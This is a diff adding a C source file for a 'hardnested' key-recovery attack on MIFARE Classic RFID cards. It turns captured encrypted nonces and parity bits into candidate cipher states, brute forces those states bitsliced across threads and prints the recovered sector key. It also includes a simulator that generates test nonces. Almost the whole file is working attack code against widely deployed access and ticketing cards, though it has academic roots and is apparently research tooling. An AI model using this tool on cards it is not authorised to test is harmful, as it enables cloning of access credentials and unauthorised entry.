@@ -0,0 +1,634 @@
+//-----------------------------------------------------------------------------
+// This code is licensed to you under the terms of the GNU GPL, version 2 or,
+// at your option, any later version. See the LICENSE.txt file for the text of
+// the license.
+//-----------------------------------------------------------------------------
+// MIFARE Classic hardnested attack, based on "Ciphertext-only Cryptanalysis on
+// Hardened Mifare Classic Cards" (Meijer, Verdult 2015)
+//
+//     hardnested [-t <threads>] <capture file>
+//     hardnested [-t <threads>] <capture file> <key> <uid> <nonces> <seed>
+//
+// For a nested authentication the tag feeds uid ^ nt into the cipher and sends
+// {nt} along with encrypted parity bits. For every byte b of {nt} the value
+//     par(ks of byte b) ^ (first ks bit of byte b + 1) = {p_b} ^ oddparity8({nt}_b)
+// is observable. Summed over all 256 values of the first byte it only depends
+// on the odd and even half of the initial state separately (the sum property):
+//     sum = p * (16 - q) + q * (16 - p)
+// with p computed from 20 bits of the odd half and q from 19 bits of the even
+// half. The same holds for the second byte, given the state after the first
+// one. Once all 256 first bytes are seen, the 16 partial sums over the high
+// nibble of the first byte, a * (4 - b) + b * (4 - a), split p and q into
+// classes of 4 partial values each, about 2^-5.8 of the states are left
+// instead of 2^-3 with the sum alone. Classes of the state after a well
+// known first byte are then brute forced bitsliced against the nonces, the
+// most likely classes first, as given by the second byte sum.
+//
+// The records of each hardnested target of the capture file are solved in
+// turn. With a key, a tag with that key and uid is simulated first: <nonces>
+// nested authentications of block 0 key A, their nonces drawn from the seed,
+// are written to the capture file. The same arguments always give the same
+// nonces, e.g. 4000 nonces of key 72237024cc4a and uid 7a3c2d01 with seed 1:
+//     hardnested sample.nonces 72237024cc4a 7a3c2d01 4000 1
+// find the key after about 2^29.5 states, half a minute on one core, at
+// about 2^24 states per second. For a random key half of the searches end
+// within 2^37 states with 4000 nonces, 2^36 with 20000, nine in ten within
+// 2^39.6 and 2^38.8.
+//-----------------------------------------------------------------------------
+#include <inttypes.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <math.h>
+
+#include "pthread.h"
+#include "parity.h"
+#include "crapto1.h"
+#include "crypto1_bs.h"
+#include "common.h"
+#include "capture.h"
+#include "thread_pool.h"
+
+#define MAX_TEST_NONCES     8
+#define SUM_CONFIDENCE      0.99999
+#define MAX_SEARCH_LOG2     44.0
+#define ODD_CHUNK           256
+#define MAX_CODES           32      // partial sum classes of a half, 19 are used
+
+typedef struct {
+    uint32_t nt_enc;
+    uint8_t par;        // bit b is the encrypted parity of byte b of {nt}
+} EncNonce;
+
+// observed sum bits of the first byte and, per first byte, of the second byte
+typedef struct {
+    int8_t first[256];
+    int8_t second[256][256];
+    uint32_t nonces[256];
+} SumSamples;
+
+// half states, 24 bits each, of one partial sum class and second byte sum
+typedef struct {
+    uint32_t *values;
+    uint32_t count;
+    bitslice_t (*slices)[24];   // even classes only, one entry per 64 values
+} HalfClass;
+
+// an odd and an even class searched together, all states equally likely
+typedef struct {
+    uint8_t odd, odd8;          // partial sum class of the odd half, second byte sum
+    uint8_t even, even8;
+    double weight;              // likelihood of each state
+    double size;
+} Pairing;
+
+// partial sum class of 20 bits of the odd half and 19 bits of the even half,
+// the 4 sorted partial sums of each class and their sum p or q
+static uint8_t odd_code[1 << 20], even_code[1 << 19];
+static uint8_t odd_partial[MAX_CODES][4], even_partial[MAX_CODES][4];
+static uint8_t odd_sum[MAX_CODES], even_sum[MAX_CODES];
+static uint32_t odd_codes, even_codes;
+// states of every class among the 2^24 of a half
+static uint32_t odd_size[MAX_CODES][17], even_size[MAX_CODES][17];
+
+static HalfClass odd_classes[MAX_CODES][17];
+static HalfClass even_classes[MAX_CODES][17];
+
+static const EncNonce *nonces;
+static uint32_t nonce_count;
+static uint32_t uid;
+
+// brute force input: the nonces whose first byte is the chosen one
+static uint8_t first_byte;
+static uint32_t test_count;
+static bitslice_t test_in[MAX_TEST_NONCES][3][8];
+static bitslice_t test_expect[MAX_TEST_NONCES][3];
+
+static pthread_mutex_t work_lock = PTHREAD_MUTEX_INITIALIZER;
+static volatile bool key_found;
+static uint64_t found_key;
+
+static uint64_t seed;
+
+static uint32_t rand32(void) {
+    seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
+    return (uint32_t)(seed >> 32);
+}
+
+static int sum_of(int p, int q) {
+    return p * (16 - q) + q * (16 - p);
+}
+
+/** half_partial_odd
+ * for each value of the first two input bits of the odd half, the number of
+ * the 4 values of the last two for which ks0 ^ ks2 ^ ks4 ^ ks6 ^ ks8 is set
+ */
+static void half_partial_odd(uint32_t odd, uint8_t *partial) {
+    memset(partial, 0, 4);
+    for (uint32_t n = 0; n < 16; n++) {
+        uint32_t x = odd;
+        int bit = filter(x);
+        for (int j = 0; j < 4; j++) {
+            x = x << 1 | BIT(n, j);
+            bit ^= filter(x);
+        }
+        partial[n & 3] += bit;
+    }
+}
+
+/** half_partial_even
+ * same for the even half and ks1 ^ ks3 ^ ks5 ^ ks7
+ */
+static void half_partial_even(uint32_t even, uint8_t *partial) {
+    memset(partial, 0, 4);
+    for (uint32_t n = 0; n < 16; n++) {
+        uint32_t x = even;
+        int bit = 0;
+        for (int j = 0; j < 4; j++) {
+            x = x << 1 | BIT(n, j);
+            bit ^= filter(x);
+        }
+        partial[n & 3] += bit;
+    }
+}
+
+// class of 4 partial sums, added to `classes` if new
+static uint8_t partial_code(uint8_t *partial, uint8_t classes[][4], uint8_t *sums, uint32_t *count) {
+    uint32_t i;
+
+    for (i = 0; i < 4; i++)
+        for (uint32_t j = i + 1; j < 4; j++)
+            if (partial[j] < partial[i]) {
+                uint8_t t = partial[i];
+                partial[i] = partial[j];
+                partial[j] = t;
+            }
+    for (i = 0; i < *count && memcmp(classes[i], partial, 4) != 0; i++);
+    if (i == *count) {
+        memcpy(classes[i], partial, 4);
+        sums[i] = partial[0] + partial[1] + partial[2] + partial[3];
+        (*count)++;
+    }
+    return (uint8_t)i;
+}
+
+static void build_tables(void) {
+    uint8_t partial[4];
+
+    for (uint32_t i = 0; i < 1 << 20; i++) {
+        half_partial_odd(i, partial);
+        odd_code[i] = partial_code(partial, odd_partial, odd_sum, &odd_codes);
+    }
+    for (uint32_t i = 0; i < 1 << 19; i++) {
+        half_partial_even(i, partial);
+        even_code[i] = partial_code(partial, even_partial, even_sum, &even_codes);
+    }
+    for (uint32_t v = 0; v < 1 << 24; v++) {
+        odd_size[odd_code[v >> 4]][odd_sum[odd_code[v & 0xfffff]]]++;
+        even_size[even_code[v >> 4 & 0x7ffff]][even_sum[even_code[v & 0x7ffff]]]++;
+    }
+}
+
+// histogram of the 16 partial sums a * (4 - b) + b * (4 - a) of two classes
+static void partial_hist(const uint8_t *a, const uint8_t *b, uint8_t *hist) {
+    memset(hist, 0, 17);
+    for (int i = 0; i < 4; i++)
+        for (int j = 0; j < 4; j++)
+            hist[a[i] * (4 - b[j]) + b[j] * (4 - a[i])]++;
+}
+
+static bool load_samples(SumSamples *samples) {
+    memset(samples, -1, sizeof(*samples) - sizeof(samples->nonces));
+    memset(samples->nonces, 0, sizeof(samples->nonces));
+
+    for (uint32_t i = 0; i < nonce_count; i++) {
+        uint32_t nt_enc = nonces[i].nt_enc;
+        uint8_t b0 = nt_enc >> 24, b1 = nt_enc >> 16;
+        int8_t s0 = BIT(nonces[i].par, 0) ^ oddparity8(b0);
+        int8_t s1 = BIT(nonces[i].par, 1) ^ oddparity8(b1);
+        if ((samples->first[b0] != -1 && samples->first[b0] != s0) ||
+                (samples->second[b0][b1] != -1 && samples->second[b0][b1] != s1)) {
+            printf("Inconsistent parity bits, are all nonces from the same key?\n");
+            return false;
+        }
+        samples->first[b0] = s0;
+        samples->second[b0][b1] = s1;
+        samples->nonces[b0]++;
+    }
+    return true;
+}
+
+/** sum_likelihood
+ * likelihood of every sum given `ones` set bits out of `seen` distinct
+ * samples, relative to the most likely one
+ */
+static void sum_likelihood(const int8_t *bits, double *like) {
+    double best = -INFINITY;
+    int seen = 0, ones = 0;
+
+    for (int i = 0; i < 256; i++) {
+        if (bits[i] != -1) {
+            seen++;
+            ones += bits[i];
+        }
+    }
+    for (int s = 0; s <= 256; s++) {
+        like[s] = -INFINITY;
+        if (ones > s || seen - ones > 256 - s)
+            continue;
+        // hypergeometric, sampling without replacement
+        like[s] = lgamma(s + 1) - lgamma(ones + 1) - lgamma(s - ones + 1)
+                  + lgamma(256 - s + 1) - lgamma(seen - ones + 1) - lgamma(256 - s - seen + ones + 1);
+        if (like[s] > best)
+            best = like[s];
+    }
+    for (int s = 0; s <= 256; s++)
+        like[s] = exp(like[s] - best);
+}
+
+/** first_byte_weights
+ * likelihood of each pair of partial sum classes: by their partial sums once
+ * all 256 first bytes are seen, else by their sum only
+ */
+static void first_byte_weights(const SumSamples *samples, double weight[MAX_CODES][MAX_CODES]) {
+    uint8_t seen[17] = {0}, hist[17];
+    double like[257];
+    bool complete = true;
+
+    for (int lo = 0; lo < 16; lo++) {
+        int partial = 0;
+        for (int hi = 0; hi < 16 && complete; hi++) {
+            complete = samples->first[hi << 4 | lo] != -1;
+            partial += samples->first[hi << 4 | lo];
+        }
+        if (complete)
+            seen[partial]++;
+    }
+    sum_likelihood(samples->first, like);
+    for (uint32_t a = 0; a < odd_codes; a++)
+        for (uint32_t b = 0; b < even_codes; b++) {
+            if (complete) {
+                partial_hist(odd_partial[a], even_partial[b], hist);
+                weight[a][b] = memcmp(hist, seen, sizeof(hist)) == 0;
+            } else {
+                weight[a][b] = like[sum_of(odd_sum[a], even_sum[b])];
+            }
+        }
+    printf("First byte %s\n", complete ? "partial sums known" : "sum estimated, not all 256 first bytes seen");
+}
+
+static int compare_pairing(const void *a, const void *b) {
+    const Pairing *x = a, *y = b;
+    if (x->weight != y->weight)
+        return x->weight < y->weight ? 1 : -1;
+    return (x->size > y->size) - (x->size < y->size);
+}
+
+/** plan_search
+ * pairings of classes in search order, the most likely states first, up to
+ * SUM_CONFIDENCE of the probability. Returns their count, the states in
+ * *states and in *expected those searched on average until the key is found.
+ */
+static uint32_t plan_search(double weight0[MAX_CODES][MAX_CODES], const double *like8,
+                            Pairing *plan, double *states, double *expected) {
+    double total = 0, mass = 0;
+    uint32_t count = 0, kept;
+
+    for (uint32_t a = 0; a < odd_codes; a++)
+        for (uint32_t b = 0; b < even_codes; b++) {
+            if (weight0[a][b] == 0)
+                continue;
+            for (int p8 = 0; p8 <= 16; p8 += 2)
+                for (int q8 = 0; q8 <= 16; q8 += 2) {
+                    double size = (double)odd_size[a][p8] * even_size[b][q8];
+                    double weight = weight0[a][b] * like8[sum_of(p8, q8)];
+                    if (size == 0 || weight < 1e-12)
+                        continue;
+                    plan[count++] = (Pairing) {a, p8, b, q8, weight, size};
+                    total += weight * size;
+                }
+        }
+    qsort(plan, count, sizeof(Pairing), compare_pairing);
+    *states = *expected = 0;
+    for (kept = 0; kept < count && mass < SUM_CONFIDENCE * total; kept++) {
+        double p = plan[kept].weight * plan[kept].size / total;
+        *expected += p * (*states + plan[kept].size / 2);
+        mass += p * total;
+        *states += plan[kept].size;
+    }
+    return kept;
+}
+
+static void free_classes(void) {
+    for (int a = 0; a < MAX_CODES; a++)
+        for (int b = 0; b <= 16; b++) {
+            free(odd_classes[a][b].values);
+            free(even_classes[a][b].values);
+            free(even_classes[a][b].slices);
+        }
+    memset(odd_classes, 0, sizeof(odd_classes));
+    memset(even_classes, 0, sizeof(even_classes));
+}
+
+// Fill the classes of the planned pairings.
+static bool build_classes(const Pairing *plan, uint32_t count) {
+    for (uint32_t i = 0; i < count; i++) {
+        HalfClass *o = &odd_classes[plan[i].odd][plan[i].odd8];
+        HalfClass *e = &even_classes[plan[i].even][plan[i].even8];
+        uint32_t n = odd_size[plan[i].odd][plan[i].odd8];
+        if (!o->values && !(o->values = malloc(sizeof(uint32_t) * n)))
+            return false;
+        n = even_size[plan[i].even][plan[i].even8];
+        if (!e->values) {
+            e->values = malloc(sizeof(uint32_t) * ((n + 63) & ~63));
+            e->slices = malloc(sizeof(*e->slices) * ((n + 63) / 64));
+            if (!e->values || !e->slices)
+                return false;
+        }
+    }
+
+    for (uint32_t v = 0; v < 1 << 24; v++) {
+        HalfClass *o = &odd_classes[odd_code[v >> 4]][odd_sum[odd_code[v & 0xfffff]]];
+        if (o->values)
+            o->values[o->count++] = v;
+        HalfClass *e = &even_classes[even_code[v >> 4 & 0x7ffff]][even_sum[even_code[v & 0x7ffff]]];
+        if (e->values)
+            e->values[e->count++] = v;
+    }
+
+    for (int a = 0; a < MAX_CODES; a++)
+        for (int b = 0; b <= 16; b++) {
+            HalfClass *e = &even_classes[a][b];
+            for (uint32_t i = 0; i < e->count; i += 64) {
+                uint64_t words[64];
+                int n = e->count - i < 64 ? e->count - i : 64;
+                for (int j = 0; j < n; j++)
+                    words[j] = e->values[i + j];
+                crypto1_bs_transpose(e->slices[i / 64], words, n, 24);
+            }
+        }
+    return true;
+}
+
+static bool check_key(uint64_t key) {
+    struct Crypto1State s;
+
+    for (uint32_t i = 0; i < nonce_count; i++) {
+        crypto1_init(&s, key);
+        uint32_t ks = crypto1_word(&s, uid ^ nonces[i].nt_enc, 1);
+        uint32_t nt = nonces[i].nt_enc ^ ks;
+        for (int b = 0; b < 4; b++) {
+            uint8_t next = b < 3 ? (uint8_t)BIT(ks, 16 - 8 * b) : (uint8_t)filter(s.odd);
+            if ((oddparity8(nt >> (24 - 8 * b)) ^ next) != BIT(nonces[i].par, b))
+                return false;
+        }
+    }
+    return true;
+}
+
+// Roll a surviving state back over the first byte and verify the key.
+static void check_candidate(uint32_t odd, uint32_t even) {
+    struct Crypto1State s = {odd, even};
+    uint64_t key;
+    uint8_t in = (uid >> 24) ^ first_byte;
+
+    for (int b = 7; b >= 0; b--)
+        lfsr_rollback_bit(&s, BIT(in, b), 1);
+    crypto1_get_lfsr(&s, &key);
+    if (check_key(key)) {
+        pthread_mutex_lock(&work_lock);
+        found_key = key;
+        key_found = true;
+        pthread_mutex_unlock(&work_lock);
+    }
+}
+
+// Run the test nonces over one odd state and 64 even states at once.
+static bitslice_t test_block(bitslice_t *z, const bitslice_t *even, bitslice_t alive) {
+    for (int i = 0; i < 24; i++)
+        BS_EVEN(z, 48, i) = even[i];
+
+    for (uint32_t k = 0; k < test_count && alive; k++) {
+        int t = 48;
+        for (int b = 0; b < 3 && alive; b++) {
+            bitslice_t par = 0;
+            for (int j = 0; j < 8; j++, t++)
+                par ^= crypto1_bs_bit(z, t, test_in[k][b][j], 1);
+            par ^= crypto1_bs_filter(z, t);
+            alive &= ~(par ^ test_expect[k][b]);
+        }
+    }
+    return alive;
+}
+
+// ODD_CHUNK odd states of a pairing against all its even states
+static void brute_force_task(void *ctx, uint32_t task, uint32_t worker) {
+    const Pairing *pairing = ctx;
+    const HalfClass *o = &odd_classes[pairing->odd][pairing->odd8];
+    const HalfClass *e = &even_classes[pairing->even][pairing->even8];
+    bitslice_t z[48 + 24];
+    uint32_t start = task * ODD_CHUNK;
+    uint32_t end = start + ODD_CHUNK < o->count ? start + ODD_CHUNK : o->count;
+    (void)worker;
+
+    for (uint32_t i = start; i < end && !key_found; i++) {
+        crypto1_bs_load_odd(z, o->values[i]);
+        for (uint32_t blk = 0; blk * 64 < e->count; blk++) {
+            uint32_t n = e->count - blk * 64;
+            bitslice_t alive = n >= 64 ? BS_ONES : ((bitslice_t)1 << n) - 1;
+            alive = test_block(z, e->slices[blk], alive);
+            while (alive) {
+                int lane = __builtin_ctzll(alive);
+                alive &= alive - 1;
+                check_candidate(o->values[i], e->values[blk * 64 + lane]);
+            }
+        }
+    }
+}
+
+static void prepare_test_nonces(void) {
+    test_count = 0;
+    for (uint32_t i = 0; i < nonce_count && test_count < MAX_TEST_NONCES; i++) {
+        uint32_t nt_enc = nonces[i].nt_enc;
+        if (nt_enc >> 24 != first_byte)
+            continue;
+        uint32_t in = uid ^ nt_enc;
+        for (int b = 0; b < 3; b++) {
+            uint8_t c = nt_enc >> (16 - 8 * b);
+            for (int j = 0; j < 8; j++)
+                test_in[test_count][b][j] = BEBIT(in, 8 * (b + 1) + j) ? BS_ONES : 0;
+            test_expect[test_count][b] = (BIT(nonces[i].par, b + 1) ^ oddparity8(c)) ? BS_ONES : 0;
+        }
+        test_count++;
+    }
+}
+
+// the nonces of one target, the most likely states first
+static bool solve(const ToolOptions *opts) {
+    static SumSamples samples;
+    static double weight0[MAX_CODES][MAX_CODES];
+    static Pairing plan[MAX_CODES * MAX_CODES * 81], best_plan[MAX_CODES * MAX_CODES * 81];
+    double best = -1, states = 0, like8[257];
+    uint32_t count = 0;
+
+    printf("%u nonces for uid %08x\n", nonce_count, uid);
+    if (!load_samples(&samples))
+        return false;
+    first_byte_weights(&samples, weight0);
+
+    // the first byte that leaves the least states to search
+    for (int c = 0; c < 256; c++) {
+        double all, expected;
+        if (!samples.nonces[c])
+            continue;
+        sum_likelihood(samples.second[c], like8);
+        uint32_t n = plan_search(weight0, like8, plan, &all, &expected);
+        if (best < 0 || expected < best) {
+            best = expected;
+            states = all;
+            first_byte = c;
+            count = n;
+            memcpy(best_plan, plan, sizeof(Pairing) * n);
+        }
+    }
+    printf("Using first byte %02x (%u nonces)\n", first_byte, samples.nonces[first_byte]);
+    printf("Candidate states: 2^%.1f, the key expected in the first 2^%.1f\n", log2(states), log2(best));
+    if (log2(best) > MAX_SEARCH_LOG2) {
+        printf("Too many candidates, collect more nonces\n");
+        return true;
+    }
+
+    if (!build_classes(best_plan, count)) {
+        printf("Can't malloc candidate lists.\n");
+        free_classes();
+        return false;
+    }
+    prepare_test_nonces();
+
+    double searched = 0, mass = 0, total = 0;
+    int shown = 0;
+    for (uint32_t i = 0; i < count; i++)
+        total += best_plan[i].weight * best_plan[i].size;
+    key_found = false;
+    for (uint32_t i = 0; i < count && !key_found; i++) {
+        uint32_t tasks = (odd_size[best_plan[i].odd][best_plan[i].odd8] + ODD_CHUNK - 1) / ODD_CHUNK;
+        thread_pool_run(tasks, thread_pool_size(tasks, opts->threads), brute_force_task, &best_plan[i]);
+        searched += best_plan[i].size;
+        mass += best_plan[i].weight * best_plan[i].size;
+        if (!key_found && (int)log2(searched) > shown) {
+            shown = (int)log2(searched);
+            printf("Searched 2^%d states, p=%.3f\n", shown, mass / total);
+            fflush(stdout);
+        }
+    }
+    free_classes();
+
+    if (key_found) {
+        printf("\nFound Key: [%012" PRIx64 "]\n\n", found_key);
+    } else {
+        printf("key not found\n");
+    }
+    return true;
+}
+
+// every hardnested target of a capture file
+static bool solve_capture(const char *path, const ToolOptions *opts) {
+    CaptureHeader header;
+    CaptureRecord *records;
+    uint32_t count;
+    bool ok = true;
+
+    if (capture_read(path, &header, &records, &count) != 1) {
+        printf("Can't read capture file %s\n", path);
+        return false;
+    }
+    EncNonce *enc = malloc(sizeof(EncNonce) * (count + 1));
+    if (enc == NULL) {
+        free(records);
+        return false;
+    }
+    uint32_t targets = capture_target_count(records, count, CAPTURE_HARDNESTED);
+    if (targets == 0) {
+        printf("No hardnested nonces in %s\n", path);
+    }
+    build_tables();
+    uid = header.auth_uid;
+    nonces = enc;
+    for (uint32_t i = 0; ok && i < count; i++) {
+        if (records[i].type != CAPTURE_HARDNESTED || !capture_first_of_target(records, i)) {
+            continue;
+        }
+        nonce_count = 0;
+        for (uint32_t k = i; k < count; k++) {
+            if (capture_same_target(&records[k], &records[i])) {
+                enc[nonce_count++] = (EncNonce) { records[k].nt_enc, records[k].par };
+            }
+        }
+        if (targets > 1) {
+            printf("Target block %u key %c\r\n", records[i].block, capture_key_type(&records[i]));
+        }
+        ok = solve(opts);
+    }
+    free(enc);
+    free(records);
+    return ok;
+}
+
+// nested authentications of block 0 key A on a tag with this key and uid
+static bool simulate(const char *path, uint64_t key, uint32_t tag_uid, uint32_t count) {
+    CaptureHeader header = { .prng = CAPTURE_PRNG_HARD, .sak = 0x08, .atqa = {0x04, 0x00}, .uid_len = 4 };
+    struct Crypto1State s;
+
+    CaptureRecord *records = calloc(count, sizeof(CaptureRecord));
+    if (records == NULL) {
+        return false;
+    }
+    num_to_bytes(tag_uid, 4, header.uid);
+    header.auth_uid = tag_uid;
+    for (uint32_t i = 0; i < count; i++) {
+        uint32_t nt = rand32();
+        crypto1_init(&s, key);
+        uint32_t ks = crypto1_word(&s, tag_uid ^ nt, 0);
+        records[i].type = CAPTURE_HARDNESTED;
+        records[i].nt_enc = nt ^ ks;
+        // the parity bit of a byte is encrypted with the first keystream bit of the next one
+        for (int b = 0; b < 4; b++) {
+            uint8_t next = b < 3 ? (uint8_t)BIT(ks, 16 - 8 * b) : (uint8_t)filter(s.odd);
+            records[i].par |= (oddparity8(nt >> (24 - 8 * b)) ^ next) << b;
+        }
+    }
+    bool ok = capture_write(path, &header, records, count);
+    free(records);
+    if (!ok) {
+        printf("Can't write %s\n", path);
+        return false;
+    }
+    printf("Simulated tag, key %012" PRIx64 ", %u nonces written to %s\n", key, count, path);
+    return true;
+}
+
+int main(int argc, char *argv[]) {
+    ToolOptions opts;
+
+    int argi = parse_tool_options(argc, argv, &opts);
+    if (argi < 0 || (argc - argi != 1 && argc - argi != 5)) {
+        printf("syntax: %s [-t <threads>] <capture file>\n", argv[0]);
+        printf("        %s [-t <threads>] <capture file> <key> <uid> <nonces> <seed>\n", argv[0]);
+        printf("  the second one writes the nonces of a simulated tag to the capture file first\n");
+        return EXIT_FAILURE;
+    }
+    if (argc - argi == 5) {
+        uint64_t key = 0;
+        uint32_t tag_uid = 0;
+        sscanf(argv[argi + 1], "%" SCNx64, &key);
+        sscanf(argv[argi + 2], "%x", &tag_uid);
+        seed = atoui(argv[argi + 4]);
+        if (!simulate(argv[argi], key, tag_uid, (uint32_t)atoui(argv[argi + 3]))) {
+            return EXIT_FAILURE;
+        }
+    }
+    if (!solve_capture(argv[argi], &opts)) {
+        return EXIT_FAILURE;
+    }
+    return EXIT_SUCCESS;
+}